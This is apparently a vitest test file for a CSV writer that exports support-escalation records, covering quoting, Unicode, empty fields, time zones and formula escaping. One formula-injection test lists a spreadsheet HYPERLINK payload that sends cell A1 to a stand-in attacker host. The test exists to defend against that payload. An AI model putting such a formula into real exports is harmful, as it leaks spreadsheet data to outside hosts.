import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvRecord } from '../../../src/app/export/csv-writer.js';
import { ESCALATION_CSV_HEADERS, escalationsCsv } from '../../../src/app/export/escalations-csv.js';
import type { EscalationFact } from '../../../src/ports/analytics.js';

const SYDNEY = { timeZone: 'Australia/Sydney' };

function fact(overrides: Partial<EscalationFact> = {}): EscalationFact {
  return {
    id: 'esc_1',
    number: 12,
    issueId: 'iss_1',
    issueNumber: 40,
    channel: 'slack:C0SUPPORT',
    threadId: '1770000000.000100',
    customerId: 'slack:UCUST1',
    type: 'functional',
    path: 'tech',
    level: 0,
    levelName: 'L2 Tech',
    priority: 'P2',
    trigger: 'manual',
    status: 'resolved',
    parentId: null,
    reescalationOf: null,
    pingPong: false,
    reasonCategory: 'knowledge_gap',
    rootCause: 'system_issue',
    createdBy: 'slack:U0AGENT',
    createdAt: new Date('2026-11-03T14:05:00.000Z'),
    ackDueAt: new Date('2026-11-03T14:35:00.000Z'),
    resolveDueAt: new Date('2026-11-03T18:05:00.000Z'),
    claimedBy: 'slack:U0SPEC',
    claimedAt: new Date('2026-11-03T14:17:30.000Z'),
    resolvedBy: 'slack:U0SPEC',
    resolvedAt: new Date('2026-11-03T16:05:00.000Z'),
    bouncedAt: null,
    csatScore: 4,
    evidenceSummary: 'Escalated by hand by <@slack:U0AGENT>.',
    systemicThreads: 0,
    ...overrides,
  };
}

/** The CSV read back the way a spreadsheet import would: one object per row, keyed by header. */
function readBack(csv: string): Record<string, string>[] {
  return parse(csv, { columns: true }) as Record<string, string>[];
}

describe('csvField and csvRecord (RFC 4180)', () => {
  it('leaves plain text unquoted', () => {
    expect(csvField('L2 Tech')).toBe('L2 Tech');
    expect(csvField('')).toBe('');
  });

  it('quotes fields holding a comma, a quote, CR or LF, doubling the quotes inside', () => {
    expect(csvField('refund, please')).toBe('"refund, please"');
    expect(csvField('the "pro" plan')).toBe('"the ""pro"" plan"');
    expect(csvField('line one\nline two')).toBe('"line one\nline two"');
    expect(csvField('line one\r\nline two')).toBe('"line one\r\nline two"');
    expect(csvField('bare\rreturn')).toBe('"bare\rreturn"');
  });

  it('ends every record with CRLF', () => {
    expect(csvRecord(['a', 'b,c', ''])).toBe('a,"b,c",\r\n');
  });

  it('writes a record of one empty field as "" so readers do not skip it as a blank line', () => {
    expect(csvRecord([''])).toBe('""\r\n');
  });

  it('round-trips any text through csv-parse', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 })),
        (rows) => {
          const csv = rows.map(csvRecord).join('');
          expect(parse(csv, { relax_column_count: true })).toEqual(rows);
        },
      ),
    );
  });
});

describe('escalationsCsv', () => {
  it('starts with the header row', () => {
    const [header] = escalationsCsv([], SYDNEY).split('\r\n');
    expect(header).toBe(ESCALATION_CSV_HEADERS.join(','));
    expect(ESCALATION_CSV_HEADERS).toEqual(
      expect.arrayContaining([
        'escalation',
        'issue',
        'path',
        'level',
        'trigger',
        'status',
        'root_cause',
        'csat',
      ]),
    );
  });

  it('is only the header when there is nothing to export', () => {
    expect(readBack(escalationsCsv([], SYDNEY))).toEqual([]);
  });

  it('writes one row per escalation step with its issue, level (from 1), timings, root cause and CSAT', () => {
    const rows = readBack(
      escalationsCsv(
        [
          fact({
            status: 'superseded',
            resolvedAt: null,
            resolvedBy: null,
            rootCause: null,
            csatScore: null,
          }),
          fact({ id: 'esc_2', number: 13, level: 1, levelName: 'L3 Engineering', parentId: 'esc_1' }),
        ],
        SYDNEY,
      ),
    );
    expect(rows).toHaveLength(2);
    expect(rows[1]).toEqual({
      escalation: '13',
      escalation_id: 'esc_2',
      issue: '40',
      issue_id: 'iss_1',
      support_channel: 'slack:C0SUPPORT',
      thread_id: '1770000000.000100',
      customer: 'slack:UCUST1',
      type: 'functional',
      path: 'tech',
      level: '2',
      level_name: 'L3 Engineering',
      priority: 'P2',
      trigger: 'manual',
      status: 'resolved',
      parent_escalation_id: 'esc_1',
      reescalation_of_id: '',
      ping_pong: 'false',
      reason_category: 'knowledge_gap',
      root_cause: 'system_issue',
      created_by: 'slack:U0AGENT',
      created_at: '2026-11-03T14:05:00.000Z',
      created_local_date: '2026-11-04',
      ack_due_at: '2026-11-03T14:35:00.000Z',
      claimed_by: 'slack:U0SPEC',
      claimed_at: '2026-11-03T14:17:30.000Z',
      minutes_to_claim: '12.5',
      resolve_due_at: '2026-11-03T18:05:00.000Z',
      resolved_by: 'slack:U0SPEC',
      resolved_at: '2026-11-03T16:05:00.000Z',
      minutes_to_resolve: '120',
      bounced_at: '',
      csat: '4',
      why: 'Escalated by hand by <@slack:U0AGENT>.',
      systemic_threads: '0',
    });
    expect(rows[0]).toMatchObject({
      escalation: '12',
      level: '1',
      status: 'superseded',
      parent_escalation_id: '',
    });
  });

  it('leaves absent values empty', () => {
    const [row] = readBack(
      escalationsCsv(
        [
          fact({
            status: 'open',
            customerId: null,
            reasonCategory: null,
            rootCause: null,
            ackDueAt: null,
            resolveDueAt: null,
            claimedBy: null,
            claimedAt: null,
            resolvedBy: null,
            resolvedAt: null,
            csatScore: null,
          }),
        ],
        SYDNEY,
      ),
    );
    for (const column of [
      'customer',
      'reason_category',
      'root_cause',
      'ack_due_at',
      'resolve_due_at',
      'claimed_by',
      'claimed_at',
      'minutes_to_claim',
      'resolved_by',
      'resolved_at',
      'minutes_to_resolve',
      'bounced_at',
      'csat',
    ]) {
      expect(row?.[column], column).toBe('');
    }
  });

  it('keeps commas, quotes, newlines, emoji and right-to-left text intact', () => {
    const awkward = {
      channel: 'teams:19:abc,def@thread.tacv2',
      levelName: 'L2 "Tech", nights\r\nand weekends',
      customerId: 'slack:U😀\u200d🔥',
      evidenceSummary: 'العميل غاضب جدًا, "refund" now\nשלום 👋🏽',
      path: 'billing\rlegacy',
    };
    const [row] = readBack(escalationsCsv([fact(awkward)], SYDNEY));
    expect(row).toMatchObject({
      support_channel: awkward.channel,
      level_name: awkward.levelName,
      customer: awkward.customerId,
      why: awkward.evidenceSummary,
      path: awkward.path,
    });
  });

  it('puts an apostrophe before text a spreadsheet would run as a formula', () => {
    const texts = [
      '=HYPERLINK("https://evil.example/?"&A1,"click")',
      '+1 555 0100',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ];
    const rows = readBack(
      escalationsCsv(
        texts.map((text) => fact({ evidenceSummary: text })),
        SYDNEY,
      ),
    );
    expect(rows.map((row) => row.why)).toEqual(texts.map((text) => `'${text}`));
  });

  it('leaves harmless text and the numbers it computes alone', () => {
    const [row] = readBack(
      escalationsCsv(
        [
          fact({
            evidenceSummary: 'a = b, 1 + 1 and 2 - 1',
            claimedAt: new Date('2026-11-03T14:05:00.000Z'),
          }),
        ],
        SYDNEY,
      ),
    );
    expect(row).toMatchObject({ why: 'a = b, 1 + 1 and 2 - 1', minutes_to_claim: '0', escalation: '12' });
  });

  it('dates created_local_date in the given time zone', () => {
    const createdAt = new Date('2026-10-31T13:30:00.000Z');
    const sydney = readBack(escalationsCsv([fact({ createdAt })], SYDNEY));
    const newYork = readBack(escalationsCsv([fact({ createdAt })], { timeZone: 'America/New_York' }));
    expect(sydney[0]).toMatchObject({
      created_at: '2026-10-31T13:30:00.000Z',
      created_local_date: '2026-11-01',
    });
    expect(newYork[0]).toMatchObject({ created_local_date: '2026-10-31' });
  });
});
